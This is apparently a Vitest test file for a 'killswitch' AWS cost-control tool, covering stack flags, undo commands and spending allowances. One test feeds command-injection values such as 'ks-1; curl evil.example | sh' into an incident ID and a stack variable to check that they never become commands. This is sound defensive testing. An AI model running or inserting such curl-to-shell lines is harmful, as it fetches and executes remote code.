import { expect, it } from 'vitest';
import { flagsOfStack, undoCommand } from '../../lambda/core/report/next-commands.ts';
import { composeReport } from '../../lambda/core/report/report.ts';
import { proposedAllowance } from '../../lambda/core/tripwire/proposed-allowance.ts';
import { readEnvironment } from '../../lambda/env.ts';
import { findings, input, outcome } from './report-input.ts';

const RUN = 'ks-20260131-120000-0001';
const withDone = { scopes: [findings({ outcomes: [outcome()] })] };

it('a stack is named where the command line would not look', () => {
  expect(flagsOfStack({ stack: 'Killswitch', region: 'us-east-1' })).toBe('');
  expect(flagsOfStack({ stack: 'Mine', region: 'us-east-1' })).toBe(' --stack Mine');
  expect(flagsOfStack({ stack: 'Killswitch', region: 'eu-west-1' })).toBe(' --stack eu-west-1/Killswitch');
});

it('an undo is proposed only where the journal holds something', () => {
  const undo = (change: Parameters<typeof input>[0]) =>
    composeReport(input({ commandFlags: ' --journal /undo', ...change })).undo;
  expect(undo(withDone)).toBe(`./killswitch restore ${RUN} --journal /undo`);
  expect(undo({})).toBeUndefined();
  expect(undo({ incident: 'ks-of-another-run' })).toContain('ks-of-another-run');
  expect(undo({ ...withDone, acted: false })).toBeUndefined();
});

it('nothing that somebody wrote into a bucket or an environment becomes a command', () => {
  const report = composeReport(input(withDone));
  expect(undoCommand({ ...report, incident: 'ks-1; curl evil.example | sh' }, '')).toBeUndefined();
  const topic = 'arn:aws:sns:us-east-1:123456789012:t';
  const environment = {
    KILLSWITCH_ACCOUNT: '123456789012',
    ...{ KILLSWITCH_ALARM_TOPIC: topic, KILLSWITCH_CONTROL_TOPIC: topic, KILLSWITCH_REPORT_TOPIC: topic },
    ...{ KILLSWITCH_BUDGET: 'b', KILLSWITCH_JOURNAL_BUCKET: 'j', KILLSWITCH_SCHEDULE: '' },
    ...{ KILLSWITCH_RULES: '', KILLSWITCH_ALARMS: '' },
  };
  for (const edited of [{}, { KILLSWITCH_STACK: 'x; curl evil.example | sh' }])
    expect(readEnvironment({ ...environment, ...edited }).stack).toBe('Killswitch');
  expect(readEnvironment({ ...environment, KILLSWITCH_STACK: 'Mine' }).stack).toBe('Mine');
});

it('an allowance is proposed within what the cap leaves', () => {
  expect(proposedAllowance({ usd: 25, hours: 24 }, [], 'us-east-1', '')).toContain('allow 25usd --for 3h ');
  expect(proposedAllowance({ usd: 100, hours: 1.5 }, [], 'us-east-1', ' --stack Mine')).toBe(
    './killswitch allow 30usd --for 90m --region us-east-1 --reason "my own work" --stack Mine',
  );
  expect(proposedAllowance({ usd: 0, hours: 24 }, [], 'us-east-1', '')).toBeUndefined();
});
